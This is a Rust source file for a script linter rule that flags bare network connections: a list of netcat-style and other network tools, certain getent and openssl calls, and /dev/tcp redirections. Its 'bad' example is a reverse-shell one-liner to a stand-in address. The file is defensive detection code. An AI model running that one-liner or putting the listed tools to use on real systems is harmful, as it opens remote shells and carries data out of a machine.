//! Connections that carry a shell.

use std::ops::Range;

use super::call::{Call, Found};
use super::text::Word;
use crate::rules::{Example, Rule, Severity, Trial};

pub(super) static RULE: Rule = Rule {
    id: "shell-network",
    severity: Severity::Error,
    summary: "a bare network connection",
    why: "A script that opens connections by itself, with netcat or the shell's `/dev/tcp`, is how a shell is carried out of a guest, or data. Nothing that sets up the gateway needs one.",
    remedy: "use curl with https for what is needed",
    threats: &["remote-code", "lateral-movement"],
    waivable: true,
    examples: &[Example {
        path: "cloud-init/example.sh",
        bad: "#!/bin/bash\nset -euo pipefail\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n",
        good: "#!/bin/bash\nset -euo pipefail\nss -Hltn\n",
        trial: Trial::Alone,
    }],
};

/// Commands that open connections.
pub(super) const NAMES: &str =
    "nc ncat netcat nc.openbsd nc.traditional socat telnet nmap masscan tcpdump mail sendmail mutt smbclient ldapsearch
finger rsh rlogin xinetd inetd tshark arping hping3 proxychains tor stunnel s_client dig host nslookup";

pub(super) fn check(call: &Call) -> Option<Found> {
    if super::known::in_list(NAMES, &call.name) {
        return Some(call.found(&RULE, format!("`{}` opens a connection that nothing checks", call.name)));
    }
    let asks = call.name == "getent"
        && !call.plain(&["-s", "--service"]).first().is_some_and(|database| {
            database.one().is_some_and(|name| matches!(name, "passwd" | "group" | "shadow" | "services" | "protocols"))
        });
    if asks {
        return Some(call.found(&RULE, "a name that is asked for leaves the guest, with whatever is in it"));
    }
    let server = call.name == "openssl"
        && call
            .args
            .first()
            .is_some_and(|word| ["s_client", "s_server", "s_time"].iter().any(|command| word.is(command)));
    server.then(|| call.found(&RULE, "this opens a connection that nothing checks"))
}

/// A redirection to a connection.
pub(super) fn device(word: &Word, bytes: &Range<usize>) -> Option<Found> {
    let is_device = |value: &str| value.starts_with("/dev/tcp") || value.starts_with("/dev/udp");
    word.any(is_device).then(|| Found {
        rule: &RULE,
        subject: "redirection".into(),
        bytes: bytes.clone(),
        message: format!("`{}` is a network connection", word.shown()),
    })
}
